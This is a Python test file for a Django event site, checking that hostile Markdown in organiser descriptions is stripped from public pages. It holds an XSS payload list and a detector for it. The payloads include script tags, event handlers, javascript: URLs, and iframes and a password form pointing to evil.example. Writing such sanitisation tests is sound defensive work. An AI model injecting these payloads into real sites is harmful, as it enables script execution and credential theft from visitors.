"""Hostile Markdown written by an organiser never reaches a public page as markup.

Every description field that is rendered as Markdown gets the same payload (script, event
handlers, javascript:, vbscript: and data: URLs, iframes, style, SVG, forms, entity tricks),
then the whole public page is parsed: no element, attribute or URL from the payload may be
in it. The site's own scripts (files, and the JSON-LD block) are allowed, with no payload.
"""

from html.parser import HTMLParser

import pytest

from tests.factories import (
    CollectionFactory,
    DocumentFactory,
    EventFactory,
    EventFAQFactory,
    InitiativeFactory,
    OrganisationFactory,
    SeriesFactory,
    SessionFactory,
    SessionSpeakerFactory,
    SlotFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = """\
Welkom bij de **werkconferentie**.

[gewone link](https://example.org/programma)

[klik](javascript:alert('xss-javascript')) en [klik](JaVaScRiPt:alert('xss-mixed-case'))

[klik](  javascript:alert('xss-spaces')) en [klik](vbscript:msgbox('xss-vbscript'))

[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==)

![plaatje](javascript:alert('xss-image')) en ![plaatje](data:image/svg+xml;base64,PHN2Zz4=)

<javascript:alert('xss-autolink')>

[referentie][boos]

[boos]: javascript:alert('xss-reference')

Tekst met <a href="&#106;avascript:alert('xss-entity')">entiteit</a> en
<a href="java&#x09;script:alert('xss-tab')">tab</a> en
<a href="https://example.org" onmouseover="alert('xss-onmouseover')">hover</a>.

<script>alert('xss-script')</script>

<SCRIPT SRC=https://evil.example/xss-src.js></SCRIPT>

<img src=x onerror="alert('xss-onerror')">

<p onclick="alert('xss-onclick')" style="background:url(javascript:alert('xss-style'))">tekst</p>

<svg onload="alert('xss-svg')"><circle r="1"/></svg>

<iframe src="https://evil.example/xss-iframe"></iframe>

<object data="https://evil.example/xss-object"></object>

<embed src="https://evil.example/xss-embed">

<style>body { display: none } /* xss-style */</style>

<link rel="stylesheet" href="https://evil.example/xss-link.css">

<meta http-equiv="refresh" content="0;url=https://evil.example/xss-meta">

<form action="https://evil.example/xss-form"><input name="wachtwoord"></form>

<base href="https://evil.example/xss-base/">

<body onload="alert('xss-body')">
"""

# Elements that nothing a visitor writes may bring into a page.
FORBIDDEN_ELEMENTS = {"iframe", "object", "embed", "style", "svg", "base", "frame", "frameset"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class PageAudit(HTMLParser):
    """Collects everything in a page that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False
        self.script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            self.in_script = True
            source = attributes.get("src") or ""
            if source and not source.startswith("/static/"):
                self.problems.append(f"script from {source}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']}>")
        if tag in ("form", "input") and "wachtwoord" in str(attributes):
            self.problems.append(f"<{tag}> from the payload")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            # Browsers ignore tabs, newlines and leading spaces inside a scheme.
            url = "".join((value or "").split()).lower()
            if name in URL_ATTRIBUTES and ("evil.example" in url or url.startswith(BAD_SCHEMES)):
                self.problems.append(f'{name}="{value}" on <{tag}>')

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script:
            self.script_text.append(data)


def audit(html: str) -> list[str]:
    parser = PageAudit()
    parser.feed(html)
    parser.close()
    problems = parser.problems
    if "xss" in "".join(parser.script_text):
        problems.append("payload inside a <script>")
    return problems


def event_page():
    event = EventFactory(description=HOSTILE)
    SlotFactory(event=event, description=HOSTILE)
    EventFAQFactory(event=event, answer=HOSTILE)
    return event.get_absolute_url()


def session_page():
    return SessionFactory(description=HOSTILE).get_absolute_url()


def speaker_page():
    link = SessionSpeakerFactory(speaker__bio=HOSTILE)
    return link.speaker.get_absolute_url()


def initiative_page():
    return InitiativeFactory(description=HOSTILE).get_absolute_url()


def organisation_page():
    return OrganisationFactory(description=HOSTILE).get_absolute_url()


def collection_page():
    return CollectionFactory(description=HOSTILE).get_absolute_url()


def series_page():
    series = SeriesFactory(description=HOSTILE)
    EventFactory(series=series)
    return series.get_absolute_url()


def document_page():
    return DocumentFactory(description=HOSTILE).get_absolute_url()


def knowledge_base_page():
    DocumentFactory(description=HOSTILE)
    return "/kennisbank/"


@pytest.mark.parametrize(
    "make_page",
    [
        event_page,
        session_page,
        speaker_page,
        initiative_page,
        organisation_page,
        collection_page,
        series_page,
        document_page,
        knowledge_base_page,
    ],
    ids=lambda make_page: make_page.__name__,
)
def test_hostile_markdown_never_reaches_the_public_page(client, make_page):
    response = client.get(make_page())

    assert response.status_code == 200
    html = response.content.decode()
    assert audit(html) == []
    # The harmless parts of the text are still shown, and the safe link still works.
    assert "werkconferentie" in html
    if make_page is not knowledge_base_page:  # which shows a plain-text summary
        assert 'href="https://example.org/programma"' in html


def test_the_audit_finds_what_it_looks_for():
    """Without this, a parser that saw nothing would pass every page above."""
    page = (
        '<p onclick="x()">a</p><a href=" JaVa&#x09;script:x()">b</a><iframe></iframe>'
        '<img src="data:image/png;base64,AA"><div style="color:red"></div>'
        "<script>alert('xss')</script><script src=https://evil.example/a.js></script>"
    )

    problems = " | ".join(audit(page))

    for finding in (
        "onclick=",
        "script:x()",
        "<iframe>",
        "data:image/png",
        "style=",
        "script from https://evil.example",
        "payload inside a <script>",
    ):
        assert finding in problems
    assert (
        audit('<a href="https://example.org">ok</a><script src="/static/site.js"></script>') == []
    )
